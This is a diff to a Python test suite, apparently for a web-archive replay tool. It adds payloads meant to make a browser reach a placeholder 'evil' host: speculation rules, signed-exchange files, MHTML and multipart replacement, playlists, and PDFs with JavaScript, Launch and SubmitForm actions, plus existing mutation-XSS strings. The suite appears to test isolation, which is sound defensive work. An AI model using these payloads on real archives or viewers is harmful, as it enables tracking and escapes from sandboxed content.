@@ -29,7 +29,7 @@ WAYS = []
 
 
 def way(name, body, **more):
-    WAYS.append(Way(name, body, ends="createOffer" in body, **more))
+    WAYS.append(Way(name, body, ends="createOffer" in str(body), **more))
 
 
 def page(head="", body="", script=""):
@@ -315,6 +315,11 @@ head("css-escaped", "<style>@\\69mport '{evil}/a.css'; body { background: u\\72l
 script("css-attribute", "document.body.setAttribute('style', 'background: url({evil}/)'); document.body.style.cssText += '; cursor: url({evil}/), auto'")
 head("import-map", "<script type=importmap>{\"imports\": {\"x\": \"{evil}/x.js\"}, \"integrity\": {}}</script><script type=module>import 'x'</script>")
 head("speculation", "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"{evils}/\", \"{evil}/\"], \"eagerness\": \"immediate\"}], \"prerender\": [{\"urls\": [\"{evil}/\", \"{evils}/\"], \"eagerness\": \"immediate\"}]}</script>")
+SPECULATE = "{\"prefetch\": [{\"urls\": [\"{evils}/\"], \"eagerness\": \"immediate\", \"referrer_policy\": \"no-referrer\"}]}"
+head("speculation-without-referrer", f'<meta name="referrer" content="no-referrer"><script type=speculationrules>{SPECULATE}</script>')
+script("speculation-by-script", f"const m = document.createElement('meta'); m.name = 'referrer'; m.content = 'no-referrer'; document.head.append(m); const s = document.createElement('script'); s.type = 'speculationrules'; "
+       f"s.textContent = `{SPECULATE}`; document.head.append(s)")
+script("speculation-in-fresh-frame", FRESH + f"const s = w.document.createElement('script'); s.type = 'speculationrules'; s.textContent = `{SPECULATE}`; w.document.head.append(s)")
 head("speculation-header", "", headers=[("Speculation-Rules", "\"/rules.json\"")], more={"/rules.json": (200, [("Content-Type", "application/speculationrules+json")],
      '{"prefetch": [{"urls": ["{evils}/"], "eagerness": "immediate"}]}')})
 for rel in ("prefetch", "preload", "modulepreload", "prerender", "preconnect", "dns-prefetch", "icon", "apple-touch-icon", "manifest", "stylesheet", "alternate stylesheet", "next", "search", "pingback", "compression-dictionary",
@@ -341,3 +346,38 @@ body("frame-srcset-and-lazy", '<img srcset="{evil}/a 1x,{evil}/b 2x" loading=laz
      '<video poster="{evil}/h"></video><input type=image src="{evil}/i"><iframe src="{evil}/j" loading=lazy></iframe><link itemprop=x href="{evil}/k"><img src=x usemap=#m longdesc="{evil}/l"><q cite="{evil}/m"></q>')
 body("mutation-xss", '<noscript><p title="</noscript><img src={evil}/a>"></p></noscript><!--><img src={evil}/b>--><svg><style><img src="{evil}/c"></style></svg><math><mtext><table><mglyph><style><img src={evil}/d></style></table></math>'
      '<textarea><img src="{evil}/e"></textarea><xmp><img src={evil}/f></xmp><select><iframe src={evil}/g></iframe></select><plaintext><img src={evil}/h>')
+
+
+# --- what the browser itself acts upon, whatever the policies say ---
+def signed_exchange(name, signature):
+    """A file that is none (Signed HTTP Exchanges, draft-yasskin-http-origin-signed-responses): the browser goes to the fallback URL in it, and fetches the certificate that it names."""
+    fallback = f"https://{name}.evil.test/".encode()
+    fields = b"\xa1\x47:status\x43200"
+    return (b"sxg1-b3\0" + len(fallback).to_bytes(2, "big") + fallback + len(signature).to_bytes(3, "big") + len(fields).to_bytes(3, "big") + signature + fields + b"body")
+
+
+def signature(name):
+    return (f'label;cert-url="https://{name}.evil.test/cert";cert-sha256=*{"A" * 43}=*;date=1767323000;expires=1767323999;integrity="digest/mi-sha256-03";sig=*{"A" * 96}*;'
+            f'validity-url="https://{name}.evil.test/v"').encode()
+
+
+SIGNED = [("Content-Type", "application/signed-exchange;v=b3"), ("X-Content-Type-Options", "nosniff")]
+for modifier in ("mp_", "id_", "oe_", ""):
+    name = "signed-" + (modifier.strip("_") or "plain")
+    way(name, signed_exchange(name, signature(name)), type=SIGNED[0][1], headers=SIGNED[1:], modifier=modifier, tells=False)
+    script(name + "-location", f"location = '/alpha/20260102030405{modifier}/http://{name}-location.site.test/x.sxg'", more={"/x.sxg": (200, SIGNED, signed_exchange(name + "-location", signature(name + "-location")))})
+script("signed-frame", "const f = document.createElement('iframe'); f.src = '/x.sxg'; document.body.append(f)", more={"/x.sxg": (200, SIGNED, signed_exchange("signed-frame", signature("signed-frame")))})
+script("signed-object", "const o = document.createElement('object'); o.data = '/x.sxg'; document.body.append(o)", more={"/x.sxg": (200, SIGNED, signed_exchange("signed-object", b"none"))})
+head("signed-prefetch", '<link rel="prefetch" href="/x.sxg" as="document">', more={"/x.sxg": (200, SIGNED, signed_exchange("signed-prefetch", signature("signed-prefetch")))})
+script("signed-odd-type", "location = '/x.sxg'", more={"/x.sxg": (200, [("Content-Type", " Application/Signed-Exchange ; V=\"b3\"; v=b3"), SIGNED[1]], signed_exchange("signed-odd-type", b"none"))})
+way("no-attachment", page(head='<meta http-equiv="refresh" content="0;url={evil}/">', script="location = '{evil}/'"), headers=[("Content-Disposition", "attachment=1")], tells=False)
+way("no-attachment-plug-in", page(head='<meta http-equiv="refresh" content="0;url={evil}/">'), type="application/pdf, text/html", tells=False)
+way("play-list", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{evil}/s.ts\n#EXT-X-ENDLIST\n", type="application/vnd.apple.mpegurl", tells=False)
+way("play-list-audio", "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{evil}/s.ts\n#EXT-X-ENDLIST\n", type="audio/mpegurl", tells=False)
+way("replacing", "--b\r\nContent-Type: text/html\r\nRefresh: 0;url={evil}/\r\n\r\n<script>location = '{evil}/'</script>\r\n--b\r\n", type="multipart/x-mixed-replace; boundary=b", tells=False)
+way("mhtml", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: {evil}/\r\n\r\n<meta http-equiv=refresh content='0;url={evil}/'><img src={evil}/>\r\n--b--\r\n",
+    type="multipart/related; boundary=b", tells=False)
+PDF = ("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction{action}>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj 3 0 obj<</Type/Page/MediaBox[0 0 600 600]/Parent 2 0 R/AA<</O{action}>>>>endobj trailer<</Root 1 0 R>>")
+for label, action in {"uri": "<</S/URI/URI({evil}/)>>", "script": "<</S/JavaScript/JS(this.submitForm\\('{evil}/'\\);this.getURL\\('{evil}/'\\);app.launchURL\\('{evil}/'\\))>>", "form": "<</S/SubmitForm/F<</FS/URL/F({evil}/)>>>>",
+                      "remote": "<</S/GoToR/F({evil}/x.pdf)/D[0/Fit]>>", "launch": "<</S/Launch/F({evil}/)>>"}.items():
+    way("pdf-" + label, PDF.replace("{action}", action), type="application/pdf", tells=False)
